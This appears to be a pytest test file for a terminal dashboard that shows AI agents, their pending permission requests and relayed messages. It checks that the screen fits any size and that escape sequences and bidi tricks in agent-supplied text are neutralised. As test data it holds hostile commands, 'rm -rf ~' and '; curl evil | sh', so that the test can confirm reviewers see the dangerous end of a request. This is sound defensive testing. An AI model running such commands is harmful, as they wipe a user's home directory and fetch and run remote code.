"""The live view's screen: everything important is on it, whatever its size, and nothing in it moves a cursor."""

from __future__ import annotations

import io
from typing import Any

import pytest
from msgspec.structs import replace
from rich.console import Console

from relay_runner.cli.dashboard.draw import KEYS, screen
from relay_runner.cli.dashboard.view import View
from relay_runner.protocol.agents import Agent, AgentState, Status
from relay_runner.protocol.messages import Delivery, Message, MessageRecord, Outcome, State
from tests.unit.cli.dashboard.test_view import permission

NOW = 1000.0


def drawn(view: View, width: int = 110, height: int = 30) -> list[str]:
    """Return the lines of the screen."""
    file = io.StringIO()
    console = Console(file=file, width=width, height=height, highlight=False, markup=False, emoji=False)
    console.print(screen(view, width=width, height=height, now=NOW))
    return file.getvalue().rstrip("\n").split("\n")


def agent(id: str, state: AgentState = AgentState.IDLE, **fields: Any) -> Agent:
    status = Status(agent_status=state, since=NOW - 65, **fields.pop("status", {}))
    return Agent(id=id, provider="demo", status=status, **fields)


def record(id: int, body: str, *deliveries: Delivery) -> MessageRecord:
    message = Message(id=id, sender="person:ann", to="label:all", body=body, created_at=NOW - 5, expires_at=NOW + 5)
    return MessageRecord(message=message, deliveries=deliveries)


def line(lines: list[str], *words: str) -> str:
    """Return the one line with all these words."""
    (found,) = [line for line in lines if all(word in line for word in words)]
    return found


def test_agents_with_what_they_do() -> None:
    busy = {"busy_reasons": ("message: message 7 from person:ann",)}
    view = View(agents=[agent("alice"), agent("bob", AgentState.BUSY, status=busy, queued=3)])
    lines = drawn(view)
    assert "2 agents, 1 busy" in lines[0]
    assert line(lines, "alice", "demo", "idle", "1m")
    assert line(lines, "bob", "busy", "3 queued", "message 7 from person:ann")
    assert KEYS in lines[-1]


def test_how_full_the_context_is() -> None:
    assert line(drawn(View(agents=[agent("alice", meta={"context": {"utilisation": 0.417}})])), "alice", "42%")


def test_permissions_stand_first_with_their_detail() -> None:
    asked = permission("0123456789abcdef", detail="--- a/x\n\n+++ b/x\n+new", expires_at=NOW + 130, note="by hand")
    view = View(agents=[agent("bob")], permissions=[asked], chosen=("permission", asked.id))
    lines = drawn(view)
    row = line(lines, "01234567", "bob", "command", "2m left", "rm -r build", "[by hand]")
    assert lines.index(row) < lines.index(line(lines, "AGENTS"))
    assert any("+new" in line for line in lines)
    assert "1 waits for an answer" in lines[0]


def test_messages_with_what_became_of_them() -> None:
    done = Delivery(message_id=1, recipient="agent:a", state=State.DONE, outcome=Outcome.COMPLETED)
    dead = Delivery(message_id=1, recipient="agent:b", state=State.DEAD)
    held = Delivery(message_id=2, recipient="agent:a", held="person typing")
    lines = drawn(View(records=[record(2, "second\nline", held), record(1, "first", done, dead)]))
    assert line(lines, "person:ann", "→", "label:all", "5s", "1 completed, 1 dead", "first")
    assert "line" not in line(lines, "person typing", "second")


def test_what_is_typed_as_a_reason() -> None:
    assert "why not? too wide" in drawn(View(reason="too wide"))[-1]


def test_trouble_and_notes() -> None:
    assert "does not answer" in drawn(View(trouble="the relay does not answer"))[0]
    assert "choose an agent" in drawn(View(note="choose an agent first"))[-1]


@pytest.mark.parametrize(("width", "height"), [(80, 24), (60, 14), (200, 50), (100, 10), (40, 10)])
def test_it_never_grows_over_the_screen_and_shows_the_choice(width: int, height: int) -> None:
    view = View(
        agents=[agent(f"agent-{number}", status={"detail": "d" * 300}) for number in range(100)],
        permissions=[permission(f"{number:08}", detail="x\n" * 40) for number in range(20)],
        records=[record(number, "b" * 500) for number in range(100)],
        chosen=("permission", "00000017"),
    )
    lines = drawn(view, width, height)
    assert len(lines) <= height and all(len(line) <= width for line in lines)
    assert line(lines, "00000017")


def test_a_narrow_screen_keeps_what_a_row_begins_with() -> None:
    sent = Delivery(message_id=1234, recipient="agent:bob", state=State.DONE, outcome=Outcome.COMPLETED)
    told = record(1234, "a text", sent)
    long = replace(told.message, sender="person:somebody-else", to="agent:with-quite-a-long-name")
    assert line(drawn(View(records=[replace(told, message=long)]), 40, 10), "1234")


def test_the_keys_fit_into_80_columns() -> None:
    assert drawn(View(), 80)[-1].rstrip().endswith("q leave")


def test_the_chosen_agent_is_on_the_screen() -> None:
    view = View(agents=[agent(f"agent-{number:03}") for number in range(100)], chosen=("agent", "agent-093"))
    assert line(drawn(view), "agent-093")


def test_nothing_of_others_moves_the_cursor() -> None:
    evil = "\x1b[2J[bold]x[/]\x07\u202e"
    view = View(
        agents=[agent("alice", status={"detail": evil})],
        permissions=[permission("p" * 8, title=evil, detail=evil)],
        records=[record(1, evil, Delivery(message_id=1, recipient="agent:a", held=evil))],
        chosen=("permission", "p" * 8),
    )
    text = "\n".join(drawn(view))
    assert "\x1b" not in text and "\x07" not in text and "[bold]x[/]" in text


DANGER = "pytest -q # then\nrm -rf ~ " + "x" * 300 + "; curl evil | sh\u202e"


@pytest.mark.parametrize("width", [60, 80, 120, 200])
def test_the_dangerous_end_of_what_is_asked_is_in_view(width: int) -> None:
    view = View(permissions=[permission("0123456789", title=DANGER, expires_at=NOW + 60, note="by hand")])
    shown = line(drawn(view, width=width), "01234567", "bob")
    assert shown.rstrip().endswith("by hand]"[-3 if width < 80 else 0 :]) and " cut]" in shown and "\u202e" not in shown
    assert all(len(row) <= width for row in drawn(view, width=width))


def test_a_long_detail_shows_both_ends_and_says_how_much_is_missing() -> None:
    asked = permission("0123456789", detail="\n".join(f"line {n}" for n in range(50)))
    lines = drawn(View(permissions=[asked], chosen=("permission", "0123456789")), height=40)
    assert line(lines, "line 0") and line(lines, "line 49") and line(lines, "… 45 more lines (v shows all)")


def test_all_of_it_is_shown_when_asked_for() -> None:
    detail = "\n".join(f"line {n} " + "y" * 150 for n in range(50)) + "\nrm\x1b[8m -rf\u202e ~"
    view = View(permissions=[permission("p1", title=DANGER, detail=detail)], chosen=("permission", "p1"), reading=0)
    seen = ""
    for first in range(0, 400, 5):
        view.reading = first
        rows = drawn(view, width=80, height=20)
        assert len(rows) <= 20 and all(len(row) <= 80 for row in rows)
        seen += "".join(row.rstrip() for row in rows)
    for part in ("line 0", "line 49", "y" * 70, "rm -rf ~", "; curl evil | sh", "rm\\x1b[8m -rf\\u202e ~"):
        assert part in seen
    assert "lines 1 to 17 of " in seen
